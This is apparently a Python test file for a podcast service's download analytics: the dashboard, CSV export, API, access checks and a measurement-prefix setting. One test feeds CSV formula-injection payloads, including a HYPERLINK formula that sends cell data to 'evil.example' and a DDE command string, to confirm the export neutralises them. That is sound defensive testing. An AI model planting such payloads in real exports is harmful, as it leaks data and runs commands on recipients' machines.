"""What producers see of the counted downloads: the dashboard, the CSV and the API, and who may see them."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from fixtures.analytics import APPLE, CHROME, OVERCAST, Clock, Hit, replay
from fixtures.app import sign_in
from lxml import html

from podcast_service.analytics import counting
from podcast_service.analytics import recorder as recording
from podcast_service.models import utcnow


def test_dashboard_csv_and_api_show_yesterday_counted_and_today_live(
    app,
    client,
    demo,
    admin_headers,
    api,
    monkeypatch,
    enclosure,
):
    path, _size, _needed = enclosure
    clock = Clock()
    monkeypatch.setattr(recording, "utcnow", clock)
    today = utcnow().replace(hour=12, minute=0, second=0, microsecond=0)
    yesterday = today - timedelta(days=1)
    from fixtures import analytics

    monkeypatch.setattr(analytics, "DAY", yesterday.replace(hour=0))
    replay(
        app,
        client,
        clock,
        path,
        [Hit(60, "198.51.100.1", APPLE), Hit(61, "198.51.100.2", OVERCAST), Hit(62, "198.51.100.3", APPLE)],
    )
    counting.roll_up()  # yesterday is over
    monkeypatch.setattr(analytics, "DAY", today.replace(hour=0))
    replay(
        app,
        client,
        clock,
        path,
        [
            Hit(60, "198.51.100.4", OVERCAST),
            Hit(61, "198.51.100.4", OVERCAST),
            Hit(62, "198.51.100.5", CHROME, range="bytes=0-", referrer=None),
        ],
    )

    body = api("GET", "/shows/cyber-security-coalition/analytics", query_string={"days": 7}).get_json()
    assert body["total"] == 5 and body["window"] == "UTC calendar day"
    assert [d["downloads"] for d in body["per_day"]][-2:] == [3, 2]
    assert {a["app"]: a["downloads"] for a in body["apps"]} == {"Apple Podcasts": 2, "Overcast": 2, "Chrome": 1}
    assert body["sources"] == {"feed": 5, "web": 0, "embed": 0, "private": 0}
    [episode] = body["episodes"]
    assert episode["downloads"] == 5 and episode["first_days"]["7"] <= 5
    assert api("GET", "/shows/cyber-security-coalition/analytics", query_string={"days": 0}).status_code == 422

    signed = app.test_client()
    assert sign_in(signed).status_code == 302
    page = html.fromstring(signed.get("/admin/shows/cyber-security-coalition/analytics?days=7").data)
    assert page.xpath("string(//strong[@class='total'])") == "5"
    assert [int(v) for v in page.xpath("//rect[@class='bar']/@data-downloads")][-2:] == [3, 2]
    assert ["Apple Podcasts", "2"] in [r.xpath("td/text()") for r in page.xpath("//table[@class='apps']/tr")]
    assert signed.get("/admin/shows/cyber-security-coalition/analytics?days=8").status_code == 404
    rows = list(csv.reader(io.StringIO(signed.get("/admin/shows/cyber-security-coalition/analytics.csv").text)))
    assert rows[0] == ["date", "episode", "title", "app", "source", "country", "downloads"]
    assert sum(int(r[6]) for r in rows[1:]) == 5
    assert body["countries"] == []  # no GeoIP database configured
    assert {r[0] for r in rows[1:]} == {yesterday.date().isoformat(), today.date().isoformat()}


def test_only_the_shows_producers_see_its_downloads(app, client, demo, make_token):
    from podcast_service.accounts import service as accounts

    stranger = accounts.create_user("stranger@example.org", "a long enough password")
    headers = make_token(stranger)
    assert client.get("/api/v1/shows/cyber-security-coalition/analytics", headers=headers).status_code == 404
    assert client.get("/api/v1/shows/cyber-security-coalition/analytics").status_code == 401
    assert client.get("/admin/shows/cyber-security-coalition/analytics").status_code == 302  # to the sign-in
    signed = app.test_client()
    assert sign_in(signed, "stranger@example.org", "a long enough password").status_code == 302
    assert signed.get("/admin/shows/cyber-security-coalition/analytics").status_code == 404
    assert signed.get("/admin/shows/cyber-security-coalition/analytics.csv").status_code == 404


def test_a_measurement_prefix_goes_before_the_public_feeds_enclosures_only(app, client, api, api_show):
    from fixtures.api import upload
    from lxml import etree

    assert upload(api, api_show, status="published").status_code == 201
    for bad in ("http://op3.dev/e/", "https://op3.dev/e", "javascript:alert(1)/", "https:///", "x" * 201):
        r = api("PATCH", f"/shows/{api_show}", json={"measurement_prefix": bad})
        assert r.status_code == 422, bad
    r = api("PATCH", f"/shows/{api_show}", json={"measurement_prefix": "https://op3.dev/e/"})
    assert r.status_code == 200 and r.get_json()["measurement_prefix"] == "https://op3.dev/e/"
    feed = etree.fromstring(client.get(f"/shows/{api_show}/feed.xml").data)
    [enclosure] = feed.xpath("//item/enclosure/@url")
    assert enclosure.startswith("https://op3.dev/e/podcasts.example.org/media/"), enclosure
    # The page's own player is counted here, not sent through the prefix.
    page = client.get(f"/shows/{api_show}/").text
    assert "op3.dev" not in page
    api("PATCH", f"/shows/{api_show}", json={"measurement_prefix": ""})
    feed = etree.fromstring(client.get(f"/shows/{api_show}/feed.xml").data)
    assert feed.xpath("//item/enclosure/@url")[0].startswith("https://podcasts.example.org/media/")


def test_a_title_or_app_name_cannot_run_as_a_formula_in_the_csv(app, signed_in, make_episode, show):
    """A producer's title and a listener's user agent reach the producer's spreadsheet as text."""
    from podcast_service.core.extensions import db
    from podcast_service.models import DailyDownloads

    titles = ['=HYPERLINK("https://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(1)", "Plain -title"]
    for n, title in enumerate(titles):
        episode = make_episode(title=title)
        db.session.add(
            DailyDownloads(
                episode_id=episode.id,
                day=utcnow().date() - timedelta(days=1 + n),
                app="=cmd|' /C calc'!A0",
                source="feed",
                country="",
                show_id=show.id,
                downloads=1,
            )
        )
    db.session.commit()
    rows = list(csv.reader(io.StringIO(signed_in.get("/admin/shows/test-show/analytics.csv").text)))[1:]
    assert sorted(r[2] for r in rows) == sorted(["'" + t for t in titles[:4]] + ["Plain -title"])
    assert {r[3] for r in rows} == {"'=cmd|' /C calc'!A0"}
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r)


def test_a_finished_day_is_counted_before_the_rollup_reaches_it(
    app, client, demo, api, monkeypatch, enclosure, signed_in
):
    """IAB guidelines, reporting: a day is over at midnight UTC, so its figures are final then, whether the
    rollup (every ten minutes, by a job worker that may be down) has run or not."""
    path, _size, _needed = enclosure
    clock = Clock()
    monkeypatch.setattr(recording, "utcnow", clock)
    yesterday = utcnow().replace(hour=12, minute=0, second=0, microsecond=0) - timedelta(days=1)
    from fixtures import analytics

    monkeypatch.setattr(analytics, "DAY", yesterday.replace(hour=0))
    replay(app, client, clock, path, [Hit(60, "198.51.100.1", APPLE), Hit(61, "198.51.100.2", OVERCAST)])

    def figures():
        body = api("GET", "/shows/cyber-security-coalition/analytics", query_string={"days": 7}).get_json()
        csv_text = signed_in.get("/admin/shows/cyber-security-coalition/analytics.csv").text
        page = html.fromstring(signed_in.get("/admin/shows/cyber-security-coalition/analytics?days=7").data)
        return (
            body["total"],
            [d["downloads"] for d in body["per_day"]][-2:],
            {a["app"]: a["downloads"] for a in body["apps"]},
            body["episodes"][0]["downloads"],
            [r[0::6] for r in list(csv.reader(io.StringIO(csv_text)))[1:]],
            page.xpath("string(//strong[@class='total'])"),
        )

    before = figures()
    assert before == (
        2,
        [2, 0],
        {"Apple Podcasts": 1, "Overcast": 1},
        2,
        [[yesterday.date().isoformat(), "1"]] * 2,
        "2",
    )
    counting.roll_up()
    assert figures() == before
